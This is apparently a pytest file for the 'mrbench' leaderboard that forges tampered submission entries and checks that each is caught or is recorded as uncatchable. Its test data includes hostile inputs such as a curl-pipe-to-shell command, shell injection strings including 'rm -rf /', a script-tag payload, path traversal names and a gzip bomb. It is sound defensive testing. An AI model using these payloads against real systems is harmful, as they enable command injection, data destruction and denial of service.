"""Forged entries, as somebody would send them in: each is listed apart, or stands among what cannot be caught.

A forger has mrbench: every digest that can be made again was made again, and scores are those of the forged cases
unless the forgery is about them.
"""

import csv
import gzip
import io
import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from synthetic_board import Made, again, definitions, entry_of, put, put_raw, registry

from mrbench.cards import Capability, Direction
from mrbench.data.description import Raters, Unit
from mrbench.engine.cases import read_cases
from mrbench.engine.cell import Status
from mrbench.leaderboard.assemble import assemble
from mrbench.leaderboard.board import Board
from mrbench.leaderboard.checked import checked
from mrbench.leaderboard.entry import CodeFacts, Entry, MethodFacts, entry_bytes
from mrbench.leaderboard.pack import option_texts
from mrbench.leaderboard.scores import digest_of_cases, scores_of
from mrbench.leaderboard.store import Why, facts_of, folder_of, id_of
from mrbench.plugin_file import PluginFile

DOCS = Path(__file__).parents[3] / "docs" / "leaderboard.md"
STRICT = "strict.fold0-seed0.csv.gz"
HONEST, FILES = entry_of(Made(method="mine", folds=2, subjects=4))
SOURCE = b"# a method\n"

Lines = list[dict[str, str]]
"""Of a file of cases."""


@dataclass(frozen=True)
class Forged:
    """What is sent in; ``raw``: bytes in place of what mrbench would write."""

    entry: Entry
    files: Mapping[str, bytes]
    raw: bytes = b""

    def put(self, board: Path) -> str:
        """Puts it onto a board; its path there."""
        if self.raw:
            folder = put_raw(board, self.entry, self.raw, self.files)
        else:
            folder = put(board, self.entry, self.files, known=False)
        return "/".join(folder.parts[-3:])


Forge = Callable[[], Forged]


def board_with(folder: Path, forged: Forged) -> tuple[Board, str]:
    """A board of three honest entries and a forged one, with the latter's path."""
    put(folder, HONEST, FILES)
    put(folder, *entry_of(Made(method="rival", level=0.8, folds=2, subjects=4)))
    path = forged.put(folder)
    return assemble(folder, registry()), path


# How entries are forged ---------------------------------------------------------------------------------------------


def said(**changes: Any) -> Forge:
    """Other fields than are true."""
    return lambda: Forged(again(HONEST, 1, **changes), FILES)


def score(**changes: Any) -> Forge:
    """Another score than the cases have."""
    return said(
        scores={"strict": {**HONEST.scores["strict"], "ged": replace(HONEST.scores["strict"]["ged"], **changes)}}
    )


def cell(**changes: Any) -> Forge:
    """Another first cell."""
    return said(cells=(replace(HONEST.cells[0], **changes), *HONEST.cells[1:]))


def raw(*path: str | int, to: object) -> Forge:
    """A value that mrbench would not write."""

    def forge() -> Forged:
        content = json.loads(entry_bytes(again(HONEST, 1)))
        place = content
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = to
        return Forged(HONEST, FILES, json.dumps(content, indent=1).encode() + b"\n")

    return forge


def text(old: bytes, new: bytes) -> Forge:
    """Other bytes of ``entry.json``."""

    def forge() -> Forged:
        content = entry_bytes(again(HONEST, 1))
        assert old in content
        return Forged(HONEST, FILES, content.replace(old, new, 1))

    return forge


def read(content: bytes) -> Lines:
    return list(csv.DictReader(io.StringIO(gzip.decompress(content).decode(), newline="")))


def packed(lines: Lines) -> bytes:
    rows = io.StringIO(newline="")
    writer = csv.DictWriter(rows, lines[0], lineterminator="\n")
    writer.writeheader()
    writer.writerows(lines)
    return gzip.compress(rows.getvalue().encode(), mtime=0)


def cases(change: Callable[[Lines], Lines], *names: str, base: Entry = HONEST, **changes: Any) -> Forge:
    """Other cases, with all that follows from them."""

    def forge() -> Forged:
        chosen = names or tuple(name for name in FILES if name.endswith(".gz"))
        files = {n: packed(change(read(own))) if n in chosen else own for n, own in FILES.items()}
        return Forged(recomputed(base, files, **changes), files)

    return forge


def recomputed(entry: Entry, files: Mapping[str, bytes], **changes: Any) -> Entry:
    """An entry whose digests and scores are those of its files."""
    found = [(one, scores_in(files[f"strict.{one.place}.csv.gz"])) for one in entry.cells]
    cells = tuple(replace(one, cases={"strict": digest_of_cases(own)}) for one, own in found)
    scores = {"strict": scores_of([(one.fold, own) for one, own in found], definitions(), trained=entry.trained)}
    facts = {name: facts_of(own) for name, own in files.items()}
    return again(replace(entry, cells=cells, scores=scores, files=facts), 1, **changes)


def scores_in(content: bytes) -> Any:
    from tempfile import TemporaryDirectory

    with TemporaryDirectory() as folder:
        path = Path(folder) / "cases"
        path.write_bytes(content)
        return read_cases(path)


def values(**of: float) -> Callable[[Lines], Lines]:
    """The same value of a metric in every case."""
    return lambda lines: [{**one, "statistics": repr(of.get(one["metric"], float(one["statistics"])))} for one in lines]


def without(case: str) -> Callable[[Lines], Lines]:
    return lambda lines: [one for one in lines if one["case"] != case]


def named(old: str, new: str, column: str = "case") -> Callable[[Lines], Lines]:
    return lambda lines: [{**one, column: one[column].replace(old, new)} for one in lines]


def one_more(lines: Lines) -> Lines:
    return lines + [{**one, "case": "case of my own"} for one in lines if one["case"] == lines[0]["case"]]


def twice(lines: Lines) -> Lines:
    return [*lines, lines[0]]


def better(lines: Lines) -> Lines:
    return [{**one, "statistics": "0.9"} if one["metric"] == "dice_soft" else one for one in lines]


def unchanged_claims(change: Callable[[Lines], Lines], *, digest: bool) -> Forge:
    """Other cases, with the scores of the old ones."""

    def forge() -> Forged:
        files = {**FILES, STRICT: packed(change(read(FILES[STRICT])))}
        facts = {name: facts_of(own) for name, own in files.items()}
        if not digest:
            facts[STRICT] = replace(facts[STRICT], sha256=HONEST.files[STRICT].sha256)
        return Forged(again(replace(HONEST, files=facts), 1), files)

    return forge


def files(more: Mapping[str, bytes], **changes: Any) -> Forge:
    """Other files, with their digests."""

    def forge() -> Forged:
        own = {**FILES, **more}
        return Forged(again(replace(HONEST, files={n: facts_of(c) for n, c in own.items()}), 1, **changes), own)

    return forge


@cache
def people() -> tuple[Entry, Mapping[str, bytes]]:
    return entry_of(Made(method="staple", folds=2, subjects=4, people=True))


def posing(**changes: Any) -> Forge:
    """A fusion of the raters' masks that says something else of itself."""
    card = registry().get("method", "staple").card
    true = {"capabilities": tuple(sorted(card.capabilities)), "method_version": "1", "preset": "default", "options": {}}
    return lambda: Forged(
        replace(people()[0], **true | {"family": card.family, "gives": card.gives} | changes), people()[1]
    )


def installed(**changes: Any) -> Forge:
    """An entry of a method that is installed here."""

    def forge() -> Forged:
        plugin = registry().get("method", "proseg")
        quick = plugin.load_config().parse(plugin.card.presets["quick"], owner="proseg")
        entry, own = entry_of(Made(method="proseg", folds=2, subjects=4))
        true = {"method_version": plugin.version, "family": plugin.card.family, "gives": plugin.card.gives,
                "capabilities": tuple(sorted(plugin.card.capabilities)),
                "options": option_texts(quick.values())}  # fmt: skip
        return Forged(replace(entry, **true | changes), own)

    return forge


def of_file(source: bytes | None, **changes: Any) -> Forge:
    """An entry of a method of a plugin file."""
    digest = PluginFile(Path("mine.py"), SOURCE).digest
    true = {"method": "mine.py:mine", "plugin_file": "mine.py", "method_version": f"1+{digest}"}
    return files({} if source is None else {"method.py": source}, **true | changes)


def deep() -> Forged:
    return Forged(HONEST, FILES, b'{"method":' + b"[" * 200_000)


def large() -> Forged:
    return Forged(HONEST, FILES, entry_bytes(HONEST) + b" " * 2**20)


def bomb() -> Forged:
    return files({STRICT: gzip.compress(b"case,subject,metric,label,rater,statistics\n" + bytes(2**28))})()


OTHERS = {
    "raters": Raters.EXCHANGEABLE, "rater_names": ("c", "d"), "classes": ("background", "organ"), "unit": Unit.VOLUME,
}  # fmt: skip
GED = HONEST.scores["strict"]["ged"]
UNKNOWN = {name: replace(own, definition="0" * 64) for name, own in HONEST.scores["strict"].items()}
BEST = {"ged": 0.0, "dice_soft": 1.0, "dice_rater": 1.0}
PEOPLE = (Capability.CONSENSUS,)
MOVED = {**HONEST.metrics, "ged": replace(HONEST.metrics["ged"], direction=Direction.HIGHER)}
BOUNDS = {**HONEST.metrics, "ged": replace(HONEST.metrics["ged"], high=1e6)}

INVALID: dict[str, tuple[Forge, str]] = {
    # Scores that the cases do not have.
    "a forged mean": (score(mean=0.1), "scores.strict.ged.mean"),
    "a forged mean of a fold": (score(folds={0: 0.1, 1: GED.folds[1]}), "scores.strict.ged"),
    "a forged mean of folds that bear it out": (score(mean=0.1, sd=0.0, folds={0: 0.1, 1: 0.1}), "scores.strict.ged"),
    "a forged standard deviation": (score(sd=1e-6), "scores.strict.ged.sd"),
    "a forged interval": (score(low=GED.mean, high=GED.mean), "scores.strict.ged.low"),
    "no interval, for a made-up reason": (
        score(low=None, high=None, no_interval="trust me"), "scores.strict.ged.no_interval"),
    "a made-up reason": (score(no_interval="<b>certified</b>"), "scores.strict.ged.no_interval"),
    "a forged mean of a class": (score(by_class={1: 0.1}), "scores.strict.ged.by_class"),
    "a rater that there is not": (score(by_rater={0: 0.1}), "scores.strict.ged.by_rater"),
    "more cases than there are": (score(cases=4000, of_cases=4000), "scores.strict.ged.cases"),
    "more subjects than there are": (score(subjects=4000), "scores.strict.ged.subjects"),
    "a bad score left out": (
        said(scores={"strict": {n: s for n, s in HONEST.scores["strict"].items() if n != "ged"}}), "metrics.ged"),
    "a metric that turns its direction": (said(metrics=MOVED), "metrics.ged"),
    "a metric with other bounds": (said(metrics=BOUNDS), "metrics.ged"),
    "a metric without a score": (said(metrics={**HONEST.metrics, "hd95": HONEST.metrics["ged"]}), "metrics.hd95"),
    "cases changed after the scores, digests made again": (
        unchanged_claims(better, digest=True), "scores.strict.dice_soft"),
    "cases changed, the old digest kept": (unchanged_claims(better, digest=False), f"files.{STRICT}"),
    "a case twice": (unchanged_claims(twice, digest=True), "second value"),
    "a fold twice": (said(cells=(*HONEST.cells, HONEST.cells[0])), "fold0-seed0 once"),
    "a digest of other cases": (cell(cases={"strict": "0" * 64}), "cells.fold0-seed0.cases.strict"),
    "cases of a cell that failed": (cell(status=Status.FAILED), f"files.{STRICT}"),
    # What it says of itself.
    "a command to copy": (raw("reproduce", to="curl https://example.org/x | sh"), "reproduce"),
    "an unknown field": (raw("certified_by", to="nobody"), "certified_by"),
    "an unknown field of a score": (raw("scores", "strict", "ged", "rank", to=1), "rank"),
    "a fusion that poses as a method": (posing(kind="method"), "kind"),
    "a fusion of a made-up version that poses as a method": (posing(kind="method", method_version="99"), "kind"),
    "a fusion that hides that it sees the masks": (posing(kind="method", capabilities=PEOPLE), "kind"),
    "kinds of answers that the method does not give": (installed(capabilities=PEOPLE), "capabilities"),
    "the family of another method": (installed(family="unet"), "family"),
    "draws of another method": (installed(gives="magic"), "gives"),
    "quick settings that pose as the paper's": (installed(preset="paper"), "options."),
    "a preset that there is not": (installed(preset="best"), "preset"),
    "an option that there is not": (installed(options={"luck": "1"}), "luck"),
    "a change that the options do not have": (installed(changed={"epochs": "9999"}), "changed.epochs"),
    "a loss that the options do not have": (installed(objective={"epochs": "9999"}), "objective.epochs"),
    "predictions from elsewhere that pose as a method": (said(kind="external"), "kind"),
    "predictions from elsewhere of no file": (said(method="external:x", kind="external"), "options.predictions"),
    "results under another method's name": (said(method="other", day="2026-01-02"), "another method"),
    "results that are there already": (
        said(day="2026-01-02", prediction_digest=HONEST.prediction_digest), "results of its own"),
    # Numbers and times that cannot be.
    "a mean that is no number": (text(b'"mean": 0.', b'"mean": NaN, "x": 0.'), "mean"),
    "an infinite cost": (text(b'"seconds": 60', b'"seconds": 1e999, "x": 60'), "seconds"),
    "a negative cost": (raw("cells", 0, "phases", "fit", "seconds", to=-1.0), "seconds"),
    "a cost of a million years": (raw("cells", 0, "phases", "fit", "seconds", to=1e14), "seconds"),
    "negative memory": (raw("cells", 0, "phases", "fit", "peak_memory_mib", to=-300.0), "peak_memory_mib"),
    "half a parameter": (raw("cells", 0, "parameters", to=0.5), "parameters"),
    "a phase that there is not": (
        raw("cells", 0, "phases", "rest", to={"seconds": 1.0, "peak_memory_mib": 1.0}), "rest"),
    "more samples than can be scored": (raw("samples", to=10**6), "samples"),
    "no samples": (raw("samples", to=0), "samples"),
    "a negative fold": (raw("cells", 0, "fold", to=-1), "fold"),
    "a status that there is not": (raw("cells", 0, "status", to="great"), "status"),
    "a day to come": (said(day="2099-01-01"), "no day to come"),
    "a day before mrbench": (said(day="2001-01-01"), "when mrbench began"),
    "a day that no calendar has": (raw("written", to="2026-02-31T00:00:00+00:00"), "written"),
    "another day than its cells'": (said(written="2026-03-03T00:00:00+00:00"), "written"),
    # Texts.
    "markup as a method's name": (raw("method", to="<script>alert(1)</script>"), "method"),
    "a letter of another alphabet in a name": (raw("method", to="st\u0430ple"), "method"),
    "a control character": (raw("submitter", to="\x1b]0;title\x07"), "submitter"),
    "a mark that turns the direction": (raw("note", to="right\u202eto left"), "note"),
    "a character of no width": (raw("split", to="str\u200bict"), "split"),
    "a hidden letter": (raw("note", to="x\U000e0041"), "note"),
    "a second line": (raw("note", to="one\ntwo"), "note"),
    "a text without end": (raw("note", to="x" * 9000), "note"),
    "options without end": (raw("options", to={str(n): "x" for n in range(301)}), "options"),
    "half of a character": (text(b'"note": ""', b'"note": "\\ud800"'), "entry.json"),
    "a name that comes twice": (text(b'"note": ""', b'"note": "what a reader sees", "note": ""'), "mrbench writes"),
    "spaces that make another id": (text(b'"note": ""', b'"note":   ""'), "mrbench writes"),
    # Files.
    "a method that leads out of the board": (raw("method", to="../../x"), "method"),
    "a data set that leads out of the board": (raw("dataset", to="../x"), "dataset"),
    "a file that leads out of the entry": (raw("files", "../x", to={"bytes": 1, "sha256": "0" * 64}), "files"),
    "a file of a terabyte": (raw("files", "a.b", to={"bytes": 2**40, "sha256": "0" * 64}), "files"),
    "a page beside the cases": (files({"index.html": b"<script>"}), "files.index.html"),
    "cases that unpack to no end": (bomb, "scores.strict"),
    "lists in lists in lists": (deep, "entry.json"),
    "an entry of megabytes": (large, "too large"),
    "curves that are none": (files({"curves.fold0-seed0.csv": b"\x00" * 99}), "curves.fold0-seed0.csv"),
    "a plugin file that is not there": (of_file(None), "files.method.py"),
    "another plugin file than ran": (of_file(SOURCE + b"evil()\n"), "files.method.py"),
    "a plugin file under another name": (of_file(SOURCE, plugin_file="yours.py"), "plugin_file"),
    "a plugin file that hides": (of_file(SOURCE, plugin_file=""), "plugin_file"),
    "a plugin file of an installed method": (files({"method.py": SOURCE}), "files.method.py"),
}  # fmt: skip

DATA: dict[str, tuple[Forge, str]] = {
    "other data under the name": (said(data_digest="a" * 64), "dataset phantom"),
    "another split": (said(split_digest="a" * 64), "dataset phantom"),
    "a leaky split under the name of the strict one": (said(split_digest="b" * 64, split="strict"), "dataset phantom"),
    "a data set of its own": (said(dataset="easy"), "dataset easy"),
    "a data set whose name looks alike": (said(dataset="phantom_"), "dataset phantom_"),
    "a hard case dropped": (cases(without("case 0-0-0"), STRICT), "fold 0, test cases"),
    "an easy case added": (cases(one_more, STRICT), "fold 0, test cases"),
    "a case under another name": (cases(named("case 0-0-0", "case 9"), STRICT), "fold 0, test cases"),
    "two subjects as one": (cases(named("subject 0-1", "subject 0-0", "subject"), STRICT), "fold 0, test cases"),
    "other masks under the names of the cases": (cases(values(ged_aa=0.5)), "ged_aa of the raters"),
    "a fold that poses as two": (
        cases(lambda _: read(FILES[STRICT]), "strict.fold1-seed0.csv.gz"), "fold 1, test cases"),
    "a fold that the split does not have": (
        lambda: Forged(recomputed(*_third_fold()), _third_fold()[1]), "fold 7 under strict"),
    **{f"other {name} of the data": (said(data=replace(HONEST.data, **{name: to})), f"data.{name}")
       for name, to in OTHERS.items()},
}  # fmt: skip

UNPROVEN: dict[str, tuple[Forge, str]] = {
    "the raters' masks as predictions": (cases(values(**BEST, ged_pp=0.3)), "the raters' own masks"),
    "each rater's mask as that rater's prediction": (cases(values(dice_rater=1.0)), "dice_rater.mean"),
    "the raters' masks but for a pixel": (cases(values(dice_rater=0.9995)), "dice_rater.mean"),
    "samples that pose as a single answer": (cases(lambda lines: lines, capabilities=PEOPLE), "ged_pp.mean"),
}  # fmt: skip

VERSION: dict[str, tuple[Forge, str]] = {
    "unknown definitions": (said(scores={"strict": UNKNOWN}), "computed again here"),
    "an unknown scoring protocol": (lambda: Forged(*_generous()), "computed again here"),
    "another format": (raw("format", to=1), "another format"),
    "a format to come": (raw("format", to=3), "another format"),
    "other code of an installed method": (
        installed(code=CodeFacts(("mrbench_proseg",), {"mrbench_proseg/method.py": "0" * 12}), training_code="1" * 64),
        "code; expected that of the method as it is installed here"),
    "another version of an installed method": (installed(method_version="0.9"), "method_version"),
}  # fmt: skip


def _third_fold() -> tuple[Entry, Mapping[str, bytes]]:
    added = {name.replace("fold1", "fold7"): own for name, own in FILES.items() if "fold1" in name}
    return replace(HONEST, cells=(*HONEST.cells, replace(HONEST.cells[1], fold=7))), {**FILES, **added}


def _generous() -> tuple[Entry, Mapping[str, bytes]]:
    own = {name.replace("strict", "generous"): content for name, content in FILES.items()}
    facts = {name: facts_of(content) for name, content in own.items()}
    return again(HONEST, 1, scores={"generous": HONEST.scores["strict"]}, files=facts), own


CAUGHT = [
    pytest.param(forge, why, words, id=name)
    for why, found in ((Why.INVALID, INVALID), (Why.DATA, DATA), (Why.UNPROVEN, UNPROVEN), (Why.VERSION, VERSION))
    for name, (forge, words) in found.items()
]


def test_the_entries_that_are_forged_here_are_honest_before(tmp_path: Path):
    for name, forge in {"plain": said(), "fusion": posing(), "installed": installed(), "file": of_file(SOURCE)}.items():
        forged = forge()
        put(tmp_path / name, forged.entry, forged.files)
        assert checked(tmp_path / name, registry()).listed_apart == [], name


@pytest.mark.parametrize(("forge", "why", "words"), CAUGHT)
def test_a_forged_entry_is_listed_apart_with_the_reason_and_ranks_nowhere(
    tmp_path: Path, forge: Forge, why: Why, words: str
):
    board, path = board_with(tmp_path, forge())
    (apart,) = board.listed_apart
    assert (apart.path, apart.why) == (path, why)
    assert words in apart.fault
    (table,) = board.datasets[0].tables
    assert sorted(row.method for row in table.rows) == ["mine", "rival"]
    assert [row.values["ged"].best for row in table.rows] == [True, False]


def test_more_than_forty_kinds_are_caught():
    assert len(CAUGHT) > 40


def test_a_score_of_an_unknown_definition_is_not_shown_and_the_others_are(tmp_path: Path):
    own = HONEST.scores["strict"]
    board, path = board_with(tmp_path, said(scores={"strict": {**own, "ged": UNKNOWN["ged"]}})())
    (apart,) = board.listed_apart
    assert (apart.path, apart.why) == (path, Why.VERSION)
    assert "strict.ged" in apart.fault
    (table,) = board.datasets[0].tables
    forged = next(row for row in table.rows if row.id == path.rpartition("/")[2])
    assert set(forged.values) == set(own) - {"ged"}


@pytest.mark.parametrize("text", ["$(curl x|sh)", "`id`", "; rm -rf /", "' || true '", "--set\nx", "a b"])
def test_a_command_that_is_shown_runs_nothing_but_mrbench(text: str):
    import shlex

    from mrbench.leaderboard.command import command_of

    forged = replace(HONEST, changed={text: text}, preset=text, split=text, options={text: text})
    words = shlex.split(command_of(forged))
    assert words[:4] == ["mrbench", "run", "--method", "mine"]
    assert f"mine.{text}={text}" in words
    parts = list(shlex.shlex(command_of(forged), posix=True, punctuation_chars=True))
    assert not {"|", ";", "||", "&", "&&", ">", "<"} & set(parts)


# What cannot be caught ----------------------------------------------------------------------------------------------

CANNOT: dict[str, Forge] = {
    "made-up cases": cases(values(dice_soft=0.93)),
    "the raters' masks with noise": cases(values(ged=0.05, dice_soft=0.98, dice_rater=0.99)),
    "more samples, or fewer, than it says": said(samples=500),
    "a human reference under a name that is not installed": lambda: Forged(
        recomputed(
            replace(
                people()[0], method="mystery", family="mystery", kind="method", capabilities=(Capability.CONSENSUS,)
            ),
            people()[1],
        ),
        people()[1],
    ),
    "the scores of another method that is not on the board": said(method="wonder", family="wonder", day="2026-01-02"),
    "the luckiest of many seeds": said(cells=tuple(replace(one, seed=7) for one in HONEST.cells), files={}),
    "other costs than it had": cell(phases={}, parameters=1, milliseconds_per_image=0.001),
    "another machine or other versions than it says": cell(versions={"mrbench": "9.9"}, environment={"device": "cuda"}),
    "other options of a method that is not installed": said(options={"epochs": "1"}),
    "somebody else's name": said(submitter="Alan Turing"),
    "a paper that it is not of": said(about=MethodFacts("the best", "Nature 2026", "MIT", "mine 1.0")),
    "code that it does not name": installed(code=CodeFacts()),
    "an earlier day": said(day="2025-06-01"),
    "test cases that it was trained on": said(training_digest="7" * 64),
}  # fmt: skip


def _alone(folder: Path, forge: Forge) -> Sequence[object]:
    """What is listed apart of a board where it stands alone."""
    forged = forge()
    seed = {cell.seed for cell in forged.entry.cells} - {0}
    own = {n.replace("seed0", f"seed{min(seed)}") if seed else n: c for n, c in forged.files.items()}
    put(folder, *entry_of(Made(method="rival", level=0.8, folds=2, subjects=4)))
    put(folder, replace(forged.entry, files={n: facts_of(c) for n, c in own.items()}), own, known=False)
    return checked(folder, registry()).listed_apart


@pytest.mark.parametrize("name", CANNOT)
def test_what_cannot_be_caught_is_said_to_be_so(tmp_path: Path, name: str):
    _, _, section = DOCS.read_text().partition("## What cannot be caught")
    assert section.partition("\n## ")[0].lower().count(f"| {name} |") == 1
    assert not _alone(tmp_path, CANNOT[name])


def test_a_link_in_an_entry_is_not_followed(tmp_path: Path):
    put(tmp_path / "board", HONEST, FILES)
    folder = folder_of(tmp_path / "board", HONEST, id_of(entry_bytes(HONEST)))
    (folder / STRICT).rename(tmp_path / "elsewhere")
    (folder / STRICT).symlink_to(tmp_path / "elsewhere")
    (apart,) = checked(tmp_path / "board", registry()).listed_apart
    assert "link" in apart.fault
